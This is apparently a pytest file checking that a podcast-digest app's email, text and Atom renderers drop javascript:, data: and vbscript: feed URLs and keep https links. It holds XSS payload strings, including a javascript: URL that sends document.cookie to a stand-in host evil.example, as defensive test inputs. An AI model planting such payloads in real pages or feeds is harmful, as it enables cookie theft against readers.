"""Email and Atom never turn a feed's `javascript:` (or any non-http) URL into a link: they apply the web
app's `safe_url` themselves instead of trusting the reader's parser (issue 11, finding 13)."""

from __future__ import annotations

from datetime import datetime, timezone

import pytest
from lxml import etree, html as lxml_html
from seeding import seed_insights, subscriber
from sqlalchemy import select

from podsight.digest.render import render_atom, render_html, render_text
from podsight.digest.urls import safe_url
from podsight.pipeline.digest_view import digest_record
from podsight.records import Digest, DigestItem, Source
from podsight.store.models import DigestItemRow, DigestRow, Episode
from podsight.web import pages

ATOM = "{http://www.w3.org/2005/Atom}"
HOSTILE = ("javascript:alert(document.cookie)", " JaVaScRiPt:alert(1)", "\tjavascript:alert(1)",
           "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)")


def hrefs_of_html(page: str) -> list[str]:
    return lxml_html.fromstring(page).xpath("//a/@href")


def hrefs_of_atom(feed: str) -> list[str]:
    """Every href in the feed, including those inside each entry's escaped HTML content."""
    root = etree.fromstring(feed.encode())
    found = [link.get("href") for link in root.iter(f"{ATOM}link")]
    for content in root.iter(f"{ATOM}content"):
        found += lxml_html.fromstring(f"<div>{content.text}</div>").xpath("//a/@href")
    return found


def item(url: str) -> DigestItem:
    source = Source("Other Show", "Ep 3", "Ann", "they said so", url, reason="opposite")
    return DigestItem(insight_id=1, claim="Bus fares fell.", why="Cheaper trips.", quote="fares fell", speaker="Bo",
                      kind="claim", start_s=5.0, show_title="Transit Talk", episode_title="Ep 1", episode_url=url,
                      score=1.0, also_said=(source,), disputed_by=(source,))


@pytest.mark.parametrize("url", HOSTILE)
def test_no_hostile_href_in_email_html_text_or_atom(url):
    digest = Digest("reader@example.com", "2026-11-30", (item(url),), unsubscribe_url="https://p.example/u/t")
    html = render_html(digest)
    assert hrefs_of_html(html) == ["https://p.example/u/t"]  # the unsubscribe link only
    assert "Said at 0:05" in lxml_html.fromstring(html).text_content()  # the time is still shown
    assert "Other Show" in html and "they said so" in html  # the sources stay, without a link
    atom = render_atom([digest], feed_id="urn:podsight:reader@example.com", title="podsight digest", self_url=None)
    assert hrefs_of_atom(atom) == []
    assert url.strip() not in render_text(digest)


def test_http_links_still_become_links():
    url = "https://cdn.example.com/ep1.mp3#t=5"
    digest = Digest("reader@example.com", "2026-11-30", (item(url),), unsubscribe_url="https://p.example/u/t")
    assert hrefs_of_html(render_html(digest)).count(url) == 3  # listen, also said, disputed
    assert url in hrefs_of_atom(render_atom([digest], feed_id="urn:x", title="t", self_url=None))
    assert f"Listen at 0:05: {url}" in render_text(digest)


def test_a_stored_episode_with_a_javascript_link_renders_no_such_href(settings, store):
    ids = seed_insights(store, 2, datetime(2026, 11, 30, tzinfo=timezone.utc))
    sub_id = subscriber(store, "reader@example.com", "Europe/Paris", 7)
    with store.session() as session:
        for episode in session.scalars(select(Episode)):
            episode.audio_url, episode.link = "javascript:fetch('//evil.example/'+document.cookie)", None
        row = DigestRow(subscriber_id=sub_id, day="2026-11-30",
                        items=[DigestItemRow(insight_id=i, position=n, score=1.0) for n, i in enumerate(ids)])
        session.add(row)
        session.flush()
        digest = digest_record(session, settings, row)
    assert digest.items and all(i.episode_url.startswith("javascript:") for i in digest.items)  # as stored
    html = render_html(digest)
    atom = render_atom([digest], feed_id="urn:x", title="t", self_url=None)
    assert not [h for h in hrefs_of_html(html) + hrefs_of_atom(atom) if "javascript" in h.lower()]
    assert "javascript:" not in html.lower() and "javascript:" not in atom.lower()


def test_the_web_app_and_the_digest_share_one_safe_url():
    assert pages.safe_url is safe_url
    assert safe_url(" https://a.example/x ") == "https://a.example/x" and safe_url("javascript:x") is None
    assert safe_url(None) is None and safe_url("ftp://a.example/f") is None
